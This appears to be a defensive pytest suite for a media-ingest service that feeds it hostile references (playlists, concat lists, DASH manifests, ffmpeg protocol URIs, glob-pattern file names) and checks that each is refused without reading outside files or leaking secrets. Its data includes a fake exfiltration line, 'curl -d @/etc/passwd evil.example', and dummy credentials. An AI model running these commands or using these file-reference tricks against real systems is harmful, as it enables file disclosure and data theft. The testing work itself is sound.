"""Hostile media (issue 19): references that would make ffmpeg or PyAV open other files or URLs
(playlists, concat lists, manifests, session descriptions, image sequences, protocol URIs), text and
secrets under media names, truncated files; a rejection that never quotes a file; a download that
drips bytes past its deadline; a full-range MJPEG reference.

Every refused case checks: the message names the reference and its file, the canary outside every
root is unchanged and was not read (its access time stays put), its secret and the reference's own
text never appear in the message, and nothing reached the asset store or the database.
"""

from __future__ import annotations

import base64
import os
import socket
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import av
import numpy as np
import pytest
from sqlalchemy import func, select

from syncreel.media.errors import MediaError
from syncreel.media.fetch import FetchPolicy, fetch_https
from syncreel.media.ffmpeg import _failure_tail, run
from syncreel.media.frames import audio_track, pictures
from syncreel.media.normalize import normalize_reference, read_audio
from syncreel.media.probe import probe
from syncreel.store.models import ReferenceAsset
from syncreel.tasks.ingest import ReferenceRejected, _ingest
from tests.fixtures.ingest import reference, store_is_empty
from tests.fixtures.synth import Picture, synth_media

CANARY = "CANARY-7f3a9c-do-not-echo"
SECRET = "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI-K7MDENG-bPxRfiCY"  # the reference's own private content
OLD = 1_000_000_000  # an access time long before any modification: reading the file moves it (relatime)


@dataclass(frozen=True)
class Outside:
    """Files outside every root that hostile references point at."""

    folder: Path
    canary: Path  # secret text
    clip: Path  # an MPEG-TS segment: a playlist that reaches it would make an acceptable video
    sound: Path  # a WAV file
    variant: Path  # an HLS playlist of the segment, for a master playlist to name

    def files(self) -> list[Path]:
        return [self.canary, self.clip, self.sound, self.variant]


@pytest.fixture(scope="module")
def outside(tmp_path_factory: pytest.TempPathFactory) -> Outside:
    folder = tmp_path_factory.mktemp("outside")
    canary = folder / "canary.txt"
    canary.write_text(f"{CANARY}\n" * 20)
    clip = folder / "canary.ts"
    source = "testsrc=size=64x48:rate=12:duration=1"
    run(["-f", "lavfi", "-i", source, "-c:v", "libx264", "-f", "mpegts", "-y", str(clip)], what="segment", path=clip)
    sound = synth_media(folder / "canary.wav", duration_s=1.0, picture=None)
    variant = folder / "variant.m3u8"
    variant.write_text(_hls(str(clip)))
    return Outside(folder, canary, clip, sound, variant)


def _reads_move_access_times(folder: Path) -> bool:
    probe_file = folder / ".atime-check"
    probe_file.write_bytes(b"x")
    os.utime(probe_file, (OLD, probe_file.stat().st_mtime))
    probe_file.read_bytes()
    moved = probe_file.stat().st_atime != OLD
    probe_file.unlink()
    return moved


@pytest.fixture
def untouched(outside: Outside) -> Iterator[Outside]:
    """The outside files, checked afterwards: same bytes, and not read (where reads move access times)."""
    before = {path: path.read_bytes() for path in outside.files()}
    for path in outside.files():
        os.utime(path, (OLD, path.stat().st_mtime))
    watch_reads = _reads_move_access_times(outside.folder)
    yield outside
    for path, content in before.items():
        if watch_reads:
            assert path.stat().st_atime == OLD, f"{path} was read"
        assert path.read_bytes() == content, f"{path} changed"


# --- the corpus: each case writes a reference into the brief's folder and returns its URI and kind --------

Case = Callable[[Path, Outside], tuple[str, str]]


def _hls(*lines: str) -> str:
    return (
        "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:1\n"
        + "".join(f"#EXTINF:1.0,\n{line}\n" for line in lines)
        + "#EXT-X-ENDLIST\n"
    )


def _fill(text: str, out: Outside) -> str:
    for key, path in {"clip": out.clip, "canary": out.canary, "sound": out.sound, "outside": out.folder}.items():
        text = text.replace(f"{{{key}}}", str(path))
    return text


def _write(name: str, content: str | bytes, kind: str, encoding: str = "utf-8") -> Case:
    def case(folder: Path, out: Outside) -> tuple[str, str]:
        (folder / name).write_bytes(_fill(content, out).encode(encoding) if isinstance(content, str) else content)
        return name, kind

    return case


def _picture(path: Path, picture: Picture = "testsrc2") -> Path:
    """A small PNG at ``path``, whatever its name (written under a plain name: ffmpeg would read a
    '%d' in an output name as a pattern too)."""
    plain = synth_media(path.with_name("plain.png"), size=(32, 32), picture=picture)
    return plain.rename(path)


def _sequence(name: str, kind: str) -> Case:
    """A real picture whose name image2 would read as a sequence (or glob) of the pictures beside it."""

    def case(folder: Path, out: Outside) -> tuple[str, str]:
        _picture(folder / name)
        for index in range(4):
            _picture(folder / f"frame{index}.png")
            _picture(folder / f"frame{index:03d}.png")
        return name, kind

    return case


def _uri(uri: str, kind: str) -> Case:
    return lambda folder, out: (_fill(uri, out), kind)


def _truncated(name: str, fraction: float) -> Case:
    def case(folder: Path, out: Outside) -> tuple[str, str]:
        whole = synth_media(folder / f"whole-{name}", duration_s=1.0, size=(64, 48), fps=12)
        (folder / name).write_bytes(whole.read_bytes()[: int(whole.stat().st_size * fraction)])
        whole.unlink()
        return name, "video"

    return case


SECRETS = f"# deploy secrets\n{SECRET}\nDATABASE_URL=postgres://admin:hunter2@db/prod\n"
HTML = f"<!doctype html><html><body><h1>403</h1><p>{SECRET}</p></body></html>\n"
MPD = (
    '<?xml version="1.0"?>\n<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S">'
    '<Period><AdaptationSet><Representation id="1" bandwidth="1000"><BaseURL>file://{clip}</BaseURL>'
    "<SegmentBase/></Representation></AdaptationSet></Period></MPD>\n"
)
SDP = "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n"

CASES: dict[str, Case] = {
    # HLS playlists: local absolute paths, file: and http: segments, nesting, disguises
    "hls-absolute-segments": _write("ad.m3u8", _hls("{clip}", "{clip}"), "video"),
    "hls-renamed-mp4": _write("ad.mp4", _hls("{clip}"), "video"),
    "hls-file-uri-segments": _write("ad.m3u8", _hls("file://{clip}"), "video"),
    "hls-http-segments": _write("ad.m3u8", _hls("http://127.0.0.1:9/seg.ts", "https://169.254.169.254/x.ts"), "video"),
    "hls-nested-master": _write(
        "master.m3u8", "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1000\n{outside}/variant.m3u8\n", "video"
    ),
    "hls-to-the-canary-text": _write("ad.m3u8", _hls("{canary}"), "video"),
    "hls-bom-and-blank-lines": _write("ad.mp4", "\ufeff\n\n  " + _hls("{clip}"), "video"),
    "hls-audio-wav-name": _write("voice.wav", _hls("{sound}"), "audio"),
    "hls-with-control-bytes": _write("ad.mp4", _hls("{clip}") + "\x01\x02\x1b[0m\n", "video"),
    # ...and ones that do not read as text, so only the whitelists stand between them and their segments
    "hls-latin1-comment": _write("ad.m3u8", "#EXTM3U\n# caf\xe9 cr\xe8me\n" + _hls("{clip}")[8:], "video", "latin-1"),
    "hls-vertical-tab": _write("ad.m3u8", "#EXTM3U\n#\x0b\n" + _hls("{clip}")[8:], "video"),
    "hls-nul-in-comment": _write("ad.m3u", "#EXTM3U\n#\x00\n" + _hls("{clip}", "{clip}")[8:], "video"),
    # concat lists
    "ffconcat-list": _write("list.ffconcat", "ffconcat version 1.0\nfile '{clip}'\nfile '{clip}'\n", "video"),
    "ffconcat-renamed-mp4": _write("list.mp4", "ffconcat version 1.0\nfile {clip}\n", "video"),
    "ffconcat-to-the-canary": _write("list.wav", "ffconcat version 1.0\nfile '{canary}'\n", "audio"),
    "ffconcat-latin1-comment": _write(
        "list.ffconcat", "ffconcat version 1.0\n# \xe9t\xe9\nfile '{clip}'\n", "video", "latin-1"
    ),
    "ffconcat-subfile-entry": _write(
        "list.mov", "ffconcat version 1.0\nfile 'subfile:,,start,0,end,0,,:{clip}'\n", "video"
    ),
    # manifests, session descriptions, other playlists
    "dash-manifest": _write("ad.mpd", MPD, "video"),
    "dash-manifest-renamed-mp4": _write("ad.mp4", MPD.replace('<?xml version="1.0"?>\n', ""), "video"),
    "sdp-session": _write("stream.sdp", SDP, "video"),
    "sdp-renamed-mp4": _write("stream.mp4", SDP, "video"),
    "pls-playlist": _write("radio.mp3", "[playlist]\nFile1={sound}\nNumberOfEntries=1\n", "audio"),
    "ansi-art-tty": _write("notes.ans", f"\x1b[31m{SECRET}\x1b[0m\n" * 20, "video"),
    # names image2 would read as a sequence or glob of the pictures beside them
    "image-sequence-percent-d": _sequence("frame%d.png", "video"),
    "image-sequence-percent-03d": _sequence("frame%03d.png", "video"),
    "image-glob-star": _sequence("frame*.png", "video"),
    "image-glob-question": _sequence("frame?.png", "video"),
    "image-glob-bracket": _sequence("frame[0-3].png", "video"),
    "image-glob-brace": _sequence("frame{0,1}.png", "video"),
    # protocol URIs given as reference paths
    "subfile-uri": _uri("subfile:,,start,0,end,0,,:{clip}", "video"),
    "concat-uri": _uri("concat:{clip}|{clip}", "video"),
    "tee-uri": _uri("tee:{clip}", "video"),
    "data-uri": _uri("data:video/mp2t;base64," + base64.b64encode(b"\x47" * 188).decode(), "video"),
    "file-uri-outside": _uri("file://{clip}", "video"),
    "pipe-uri": _uri("pipe:0", "audio"),
    "http-uri": _uri("http://127.0.0.1:9/ad.mp4", "video"),
    # text of many kinds under media names
    "json-as-mp4": _write("data.mp4", f'{{"api_key": "{SECRET}", "user": "admin"}}\n', "video"),
    "html-as-png": _write("logo.png", HTML, "image"),
    "shell-script-as-wav": _write(
        "voice.wav", f"#!/bin/sh\nexport {SECRET}\ncurl -d @/etc/passwd evil.example\n", "audio"
    ),
    "utf16-text-as-mp4": _write("clip.mp4", ("\ufeff" + SECRETS).encode("utf-16-le"), "video"),
    "utf16-be-text-as-png": _write("pic.png", SECRETS.encode("utf-16"), "image"),
    "secrets-as-png": _write("hero.png", SECRETS, "image"),
    "secrets-as-mp4": _write("hero.mp4", SECRETS, "video"),
    "secrets-as-wav": _write("hero.wav", SECRETS, "audio"),
    "secrets-padded-with-nul": _write("hero.mov", SECRETS.encode() + b"\x00" * 600, "video"),
    "ffmetadata-as-mkv": _write("meta.mkv", f";FFMETADATA1\ntitle={SECRET}\n", "video"),
    # broken media
    "zero-byte-mp4": _write("empty.mp4", b"", "video"),
    "truncated-mp4-third": _truncated("cut.mp4", 1 / 3),
    "truncated-mp4-header-only": _truncated("head.mp4", 0.02),
    "png-signature-only": _write("sig.png", b"\x89PNG\r\n\x1a\n", "image"),
    "riff-header-only": _write("short.wav", b"RIFF\x24\x00\x00\x00WAVEfmt ", "audio"),
}


@pytest.mark.parametrize("case", CASES.values(), ids=CASES.keys())
def test_hostile_reference_is_refused_without_reaching_outside(
    case: Case,
    runtime,  # noqa: F811 - the fixture
    embedded_state: Path,
    untouched: Outside,
) -> None:
    folder = embedded_state / "brief"
    folder.mkdir()
    uri, kind = case(folder, untouched)
    role = {"image": "character", "video": "motion", "audio": "voice"}[kind]
    with pytest.raises(ReferenceRejected) as rejected:
        _ingest(runtime, reference(uri, kind, role, "hostile"), str(folder))
    message = str(rejected.value)
    assert message.startswith(f"reference 'hostile' ({uri}): ")
    problem = message.removeprefix(f"reference 'hostile' ({uri}): ")
    assert len(message) < 800 and "\n" not in message and "Traceback" not in message
    for secret in (CANARY, SECRET, "hunter2", "api_key", *_words(folder / uri)):
        assert secret not in problem

    assert store_is_empty(runtime)
    with runtime.session() as session:
        assert session.scalar(select(func.count()).select_from(ReferenceAsset)) == 0


def _words(path: Path) -> set[str]:
    """The longer words of a reference's own text (none for a URI or a file that is not there)."""
    if not path.is_file():
        return set()
    data = path.read_bytes()
    text = data.decode("utf-16") if data[:2] in (b"\xff\xfe", b"\xfe\xff") else data.decode("latin-1")
    return {word for word in text.split() if len(word) >= 6}


def test_corpus_size() -> None:
    assert len(CASES) >= 25


def test_playlists_say_what_they_are_and_what_is_accepted(tmp_path: Path, outside: Outside) -> None:
    """The refusal names the kind of file when it can tell, and always what is accepted."""
    kinds = {
        "a.mp4": (_hls(str(outside.clip)), "is an HLS playlist \\(it opens other files\\)"),
        "b.mp4": (f"ffconcat version 1.0\nfile {outside.clip}\n", "is a concat list \\(it opens other files\\)"),
        "c.mp4": (
            MPD.format(clip=outside.clip),
            "is an XML document \\(such as a DASH manifest, which opens other files\\)",
        ),
        "d.mp4": (SDP, "is an SDP session description \\(it opens network streams\\)"),
    }
    for name, (content, said) in kinds.items():
        (tmp_path / name).write_text(content)
        for check in (probe, lambda path: normalize_reference(path, "video", tmp_path / "out")):
            with pytest.raises(MediaError, match=f"{name}: {said}; accepted: a single media file such as MP4, MOV"):
                check(tmp_path / name)
    ansi = tmp_path / "art.ans"
    ansi.write_bytes(b"\x1b[31m" + CANARY.encode() * 40)
    with pytest.raises(
        MediaError, match=r"art\.ans: not a single-file container of an accepted kind; accepted: a single"
    ):
        probe(ansi)  # the tty demuxer would draw the text as video


def test_frame_and_sound_readers_refuse_a_playlist(tmp_path: Path, outside: Outside) -> None:
    """The analysis readers open files under the same whitelists as probe."""
    playlist = tmp_path / "ad.m3u8"
    playlist.write_bytes(b"#EXTM3U\n# caf\xe9\n" + _hls(str(outside.clip))[8:].encode())
    for read in (lambda path: next(pictures(path)), audio_track, read_audio):
        with pytest.raises(MediaError, match=r"ad\.m3u8: is an HLS playlist"):
            read(playlist)


# --- ffmpeg: whitelists on every file input, names that are not patterns ------------------------------


def test_ffmpeg_refuses_a_playlist_input_and_names_it(tmp_path: Path, outside: Outside) -> None:
    playlist = tmp_path / "ad.m3u8"
    playlist.write_text(_hls(str(outside.clip)))
    out = tmp_path / "out.mp4"
    with pytest.raises(MediaError, match=r"ad\.m3u8: converting refused: not a single-file container"):
        run(
            ["-f", "lavfi", "-i", "anullsrc=d=0.1", "-i", str(playlist), "-map", "1:v", "-y", str(out)],
            what="converting",
            path=out,
        )
    assert not out.exists()


def test_ffmpeg_reads_a_pattern_name_as_one_file(tmp_path: Path) -> None:
    """image2 would read 'frame%d.png' as frame0.png, frame1.png, …; given by name it is one picture."""
    for name in ("frame%d.png", "frame0.png", "frame1.png", "frame2.png"):
        _picture(tmp_path / name)
    out = tmp_path / "copy.mkv"
    run(["-i", str(tmp_path / "frame%d.png"), "-c:v", "ffv1", "-y", str(out)], what="copying", path=out)
    assert probe(out, count_frames=True).video.frames == 1
    assert probe(tmp_path / "frame%d.png", count_frames=True).video.frames == 1


@pytest.mark.parametrize("name", ["frame%d.png", "frame%03d.png", "100%.png"])
def test_a_picture_with_a_pattern_name_is_read_as_itself(tmp_path: Path, name: str) -> None:
    """Not frame0.png (or frame000.png) beside it, which image2 would read first as the sequence's start."""
    _picture(tmp_path / name, "still")
    for index in range(3):
        _picture(tmp_path / f"frame{index}.png", "black")
        _picture(tmp_path / f"frame{index:03d}.png", "black")
    out, info = normalize_reference(tmp_path / name, "image", tmp_path / "out")
    assert info.is_image and out.name == f"{Path(name).stem}.png"
    with av.open(str(out)) as container:
        pixels = next(container.decode(video=0)).to_ndarray(format="rgb24")
    assert np.allclose(pixels[16, 16], (0x33, 0x66, 0xCC), atol=8)  # the still's colour, not black


def test_protocol_prefixed_names_are_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A file called 'concat:a.mp4|b.mp4' in the working directory is that file, not the concat protocol."""
    monkeypatch.chdir(tmp_path)
    synth_media(tmp_path / "a.mp4", duration_s=0.5, size=(32, 32), fps=10, sound=None)
    synth_media(tmp_path / "concat:a.mp4|a.mp4", duration_s=1.0, size=(64, 48), fps=10, sound=None)
    info = probe("concat:a.mp4|a.mp4")
    assert (info.video.width, info.duration_s) == (64, pytest.approx(1.0, abs=0.05))
    out, normalized = normalize_reference(Path("concat:a.mp4|a.mp4"), "video", tmp_path / "out")
    assert normalized.video.width == 64


def test_generated_inputs_need_no_whitelist(tmp_path: Path) -> None:
    """Our own lavfi sources still run, next to a file input that gets the whitelists."""
    clip = synth_media(tmp_path / "clip.mp4", duration_s=0.5, size=(32, 32), fps=10)
    out = tmp_path / "mixed.mp4"
    run(
        ["-f", "lavfi", "-i", "sine=frequency=300:duration=0.5", "-i", str(clip), "-map", "1:v", "-map", "0:a",
         "-c:v", "libx264", "-c:a", "aac", "-shortest", "-y", str(out)],
        what="mixing", path=out,
    )  # fmt: skip
    assert probe(out).audio is not None


# --- no message carries a file's contents ----------------------------------------------------------


def test_text_reference_refusal_does_not_quote_the_file(tmp_path: Path) -> None:
    notes = tmp_path / "notes.png"
    notes.write_text(SECRETS)
    with pytest.raises(MediaError) as refused:
        normalize_reference(notes, "image", tmp_path / "out")
    assert str(refused.value) == f"{notes}: is a text file, not an image file"


def test_ffmpeg_failure_tail_keeps_its_words_not_the_files() -> None:
    stderr = "\n".join(
        [
            "Input #0, mov,mp4,m4a,3gp,3g2,mj2, from 'x.mp4':",
            "  Metadata:",
            f"    title           : invalid {SECRET}",
            f"[concat @ 0x55d0c0ffee00] Line 2: unknown keyword '{SECRET}'",
            f"[hls @ 0x55d0c0ffee00] Skip ('#EXT-X-{SECRET}')",
            f'[srt @ 0x1] Invalid timestamp "{SECRET}"',
            "[mov,mp4,m4a,3gp,3g2,mj2 @ 0x55d0c0ffee00] moov atom not found",
            "Error opening input file x.mp4.",
            "Conversion failed!",
        ]
    )
    tail = _failure_tail(stderr)
    assert SECRET not in tail and "wJalr" not in tail and "title" not in tail
    assert tail.endswith("[mov,mp4,m4a,3gp,3g2,mj2] moov atom not found | Error opening input file x.mp4.")
    assert "[srt] Invalid timestamp '…'" in tail
    assert len(_failure_tail(f"[x] error {'y' * 5000}")) <= 160


# --- the download deadline holds in every phase ------------------------------------------------------

DRIP_POLICY = FetchPolicy(allowed_networks=("127.0.0.1/32",), timeout_s=1.5)


@pytest.mark.parametrize("path", ["/drip", "/drip-headers"])
def test_dripping_server_stops_at_the_deadline(trusted: str, tmp_path: Path, path: str) -> None:  # noqa: F811
    started = time.monotonic()
    with pytest.raises(MediaError, match=r"download took longer than 1\.5 s; accepted: at most 1\.5 s"):
        fetch_https(f"{trusted}{path}", tmp_path / "drip.bin", DRIP_POLICY)
    assert time.monotonic() - started < DRIP_POLICY.timeout_s + 1
    assert not list(tmp_path.iterdir())  # no partial file left behind


@pytest.fixture
def dripping_tls_handshake() -> Iterator[int]:
    """A port where a 'TLS server' answers the handshake one byte every 0.2 s (a record header that
    promises 16 KB, then its bytes): each read gets a byte well within any per-read timeout."""
    listener = socket.create_server(("127.0.0.1", 0))
    stop = threading.Event()

    def serve() -> None:
        listener.settimeout(0.2)
        while not stop.is_set():
            try:
                client, _ = listener.accept()
            except TimeoutError:
                continue
            with client:
                for byte in b"\x16\x03\x03\x40\x00" + b"\x02" * 16384:
                    try:
                        client.sendall(bytes([byte]))
                    except OSError:
                        break
                    if stop.wait(0.2):
                        break

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield listener.getsockname()[1]
    finally:
        stop.set()
        thread.join(timeout=5)
        listener.close()


def test_dripping_tls_handshake_stops_at_the_deadline(dripping_tls_handshake: int, tmp_path: Path) -> None:
    started = time.monotonic()
    with pytest.raises(MediaError, match=r"download took longer than 1\.5 s"):
        fetch_https(f"https://127.0.0.1:{dripping_tls_handshake}/ad.mp4", tmp_path / "ad.mp4", DRIP_POLICY)
    assert time.monotonic() - started < DRIP_POLICY.timeout_s + 1
    assert not list(tmp_path.iterdir())


# --- full-range MJPEG comes out as limited-range yuv420p ------------------------------------------------


def test_mjpeg_mov_is_normalized_to_limited_range_yuv420p(tmp_path: Path) -> None:
    source = tmp_path / "camera.mov"
    run(
        ["-f", "lavfi", "-i", "testsrc=size=160x120:rate=12:duration=1", "-c:v", "mjpeg", "-y", str(source)],
        what="writing an MJPEG clip", path=source,
    )  # fmt: skip
    assert probe(source).video.pix_fmt.startswith("yuvj")
    out, info = normalize_reference(source, "video", tmp_path / "out")
    assert info.video.pix_fmt == "yuv420p" and info.video.codec == "h264"
    with av.open(str(out)) as container:
        stream = container.streams.video[0]
        assert stream.codec_context.color_range == av.video.reformatter.ColorRange.MPEG
        frame = next(container.decode(stream))
        luma = frame.to_ndarray(format="yuv420p")[: frame.height]
    assert int(np.percentile(luma, 1)) >= 16 and int(np.percentile(luma, 99)) <= 235  # limited range
